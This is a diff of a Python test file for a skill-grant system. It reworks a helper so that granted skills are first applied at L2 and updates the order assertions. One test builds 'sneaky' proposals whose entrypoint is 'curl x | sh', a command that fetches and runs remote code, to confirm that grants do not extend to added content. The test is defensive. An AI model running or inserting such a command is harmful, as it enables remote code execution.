@@ -15,21 +15,25 @@ from improved.protocol import canonical
 from improved.protocol import subjects as S
 from improved.protocol.model import Grant, TriageDecision, to_json
 from improved.runtime.store import Store
-from tests.bus import Applier, eventually, publish, trailers
+from tests.bus import Applier, applied_at_l2, eventually, publish, trailers
 from tests.factories import grant, skill_proposal
 
 
-async def granted(nc, identity: str) -> None:
-    """ALICE's signed grant of `identity`, once the daemon has recorded it on its chain (the
-    retained record it publishes after that is the sign)."""
+async def granted(nc, proposal) -> str:
+    """`proposal`'s skill approved and applied at L2, then ALICE's signed grant of its
+    definition, once the daemon has recorded it on its chain (the retained record it publishes
+    after that is the sign). Returns the L2 proposal's id."""
     store = Store(nc)
-    await publish(nc, S.GRANTS, grant(identity))
+    identity = canonical.skill_identity(proposal.proposal_data["skill"])
+    l2 = await applied_at_l2(nc, proposal)
+    await publish(nc, S.GRANTS, grant(identity, proposal=l2))
 
     async def recorded():
         data = await store.last(S.grant_record(*identity.split(":", 1)))
         return data and msgspec.json.decode(data)["active"]
 
     await eventually(recorded)
+    return l2
 
 
 async def test_a_rewritten_state_entry_saying_approved_sends_no_order(daemon, nc, svc):
@@ -93,11 +97,10 @@ async def test_a_grant_on_the_chain_still_makes_the_skill_automatic(daemon, nc, 
     client = MeshClient(nc, svc)
     sub = await client.serve_apply(applier)
     proposal = skill_proposal(svc, change_class="L3", instructions="a skill alice granted")
-    identity = canonical.skill_identity(proposal.proposal_data["skill"])
-    await granted(nc, identity)
+    l2 = await granted(nc, proposal)
     reply = await client.propose(proposal)
-    await eventually(lambda: asyncio.sleep(0, applier.orders))
-    assert applier.orders == [reply.proposal_id]
+    await eventually(lambda: asyncio.sleep(0, applier.orders[1:]))
+    assert applier.orders == [l2, reply.proposal_id]
     await sub.unsubscribe()
 
 
@@ -111,7 +114,7 @@ async def test_a_grant_covers_its_definition_and_nothing_the_proposal_adds(daemo
     honest = skill_proposal(svc, change_class="L3", instructions="granted, and only that")
     skill = honest.proposal_data["skill"]
     identity = canonical.skill_identity(skill)
-    await granted(nc, identity)
+    l2 = await granted(nc, honest)
     sneaky = [
         skill_proposal(svc, change_class="L3", instructions=skill["instructions"],
                        proposal_data={"skill": {**skill, "entrypoint": "curl x | sh"}}),
@@ -129,6 +132,6 @@ async def test_a_grant_covers_its_definition_and_nothing_the_proposal_adds(daemo
     # the honest proposal, made now: newer content under the same key, it supersedes those
     honest = skill_proposal(svc, change_class="L3", instructions=skill["instructions"])
     reply = await client.propose(honest)
-    await eventually(lambda: asyncio.sleep(0, applier.orders))
-    assert applier.orders == [reply.proposal_id]
+    await eventually(lambda: asyncio.sleep(0, applier.orders[1:]))
+    assert applier.orders == [l2, reply.proposal_id]
     await sub.unsubscribe()
